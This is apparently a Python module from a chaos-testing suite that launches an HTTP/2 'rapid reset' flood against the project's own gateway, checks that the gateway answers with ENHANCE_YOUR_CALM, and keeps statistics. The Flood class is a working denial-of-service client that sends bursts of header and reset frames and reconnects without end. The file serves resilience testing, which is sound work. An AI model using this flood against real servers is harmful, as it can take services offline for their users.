#!/usr/bin/env python3
"""A client that resets HTTP/2 streams without end ("rapid reset"), against one gateway, through the balancer.

It sits in the hub, so that its address is not that of the honest clients. As a program (flood.py HOST PORT PATH
STATISTICS CONNECTIONS) it is that client; it dials again whenever the gateway ends its connection.
"""

import json
import pathlib
import socket
import sys
import threading
import time
import urllib.parse

ROOT = pathlib.Path(__file__).resolve().parent.parent.parent
sys.path[:0] = [str(ROOT), str(ROOT / "tests" / "attack")]

import h2raw  # noqa: E402  the path must be set first

from chaos.faults.base import FaultNotApplied, cluster, need, proven  # noqa: E402
from chaos.stand import network, processes  # noqa: E402
from chaos.stand.places import replace  # noqa: E402

BURST, PAUSE_S = 50, 0.05  # streams at once, and how long until the next: a flood, not a test of this machine


def needs():
    return ["netns"]


def _role(zone):
    return f"fault-flood-{zone.name}"


def _statistics(ours, zone):
    return ours.dir / zone.name / "flood.json"


def _seen(ours, zone):
    path = _statistics(ours, zone)
    return json.loads(path.read_text()) if path.exists() else {"connections": 0, "resets": 0, "calmed": 0}


def start(zone, connections=4):
    """Until stop(). The gateway must end those connections, again and again, and go on serving the others."""
    ours = cluster()
    need(ours, *needs())
    zone = ours.zone(zone)
    if processes.find(ours.places, _role(zone)):
        raise FaultNotApplied(f"a flood runs against {zone.name} already")
    _statistics(ours, zone).unlink(missing_ok=True)
    ours.injected.put(f"flood {zone.name}", zone.name, "flood of HTTP/2 resets")
    url = urllib.parse.urlsplit(zone.gateway.ingest_url)
    ours.spawn(_role(zone), [sys.executable, __file__, url.hostname, url.port, f"/v1/events/{ours.source}",
                             _statistics(ours, zone), connections], netns=ours.places.netns(network.HUB))
    proven(lambda: _seen(ours, zone)["calmed"], f"{zone.gateway.name} never ends the flood's connections", 30)
    found = _seen(ours, zone)
    return {"proof": f"{found['resets']} resets on {found['connections']} connections, "
                     f"{found['calmed']} of them ended with ENHANCE_YOUR_CALM", "zone": zone.name}


def stop(zone):
    ours = cluster()
    zone = ours.zone(zone)
    pid = processes.find(ours.places, _role(zone))
    if pid:
        processes.kill(pid)
    ours.injected.drop(f"flood {zone.name}")
    found = _seen(ours, zone)
    return {"proof": f"ended after {found['resets']} resets on {found['connections']} connections", "zone": zone.name}


class Flood:
    def __init__(self, address, path):
        self.address, self.path, self.lock = address, path, threading.Lock()
        self.counts = {"connections": 0, "resets": 0, "calmed": 0}

    def add(self, **more):
        with self.lock:
            for name, value in more.items():
                self.counts[name] += value

    def once(self):
        """One connection until the gateway ends it."""
        with h2raw.Connection(socket.create_connection(self.address, timeout=5)) as client:
            self.add(connections=1)
            for first in range(1, 1 << 20, 2 * BURST):
                streams = range(first, first + 2 * BURST, 2)
                if not client.send(b"".join(h2raw.headers(n, path=self.path) + h2raw.rst(n) for n in streams)):
                    break
                self.add(resets=BURST)
                time.sleep(PAUSE_S)
                client.pump(lambda: False, timeout=0.01)
                if client.goaway_code() is not None:
                    break
            client.pump(lambda: client.closed, timeout=2)
            self.add(calmed=client.goaway_code() == h2raw.ENHANCE_YOUR_CALM)

    def forever(self):
        while True:
            try:
                self.once()
            except OSError:
                time.sleep(0.2)  # refused or cut off: a gateway that is down does not end the flood


def main():
    host, port, path, statistics, connections = sys.argv[1:]
    flood = Flood((host, int(port)), path)
    for _ in range(int(connections)):
        threading.Thread(target=flood.forever, daemon=True).start()
    while True:
        with flood.lock:
            text = json.dumps(flood.counts)
        replace(statistics, text)
        time.sleep(0.2)


if __name__ == "__main__":
    main()
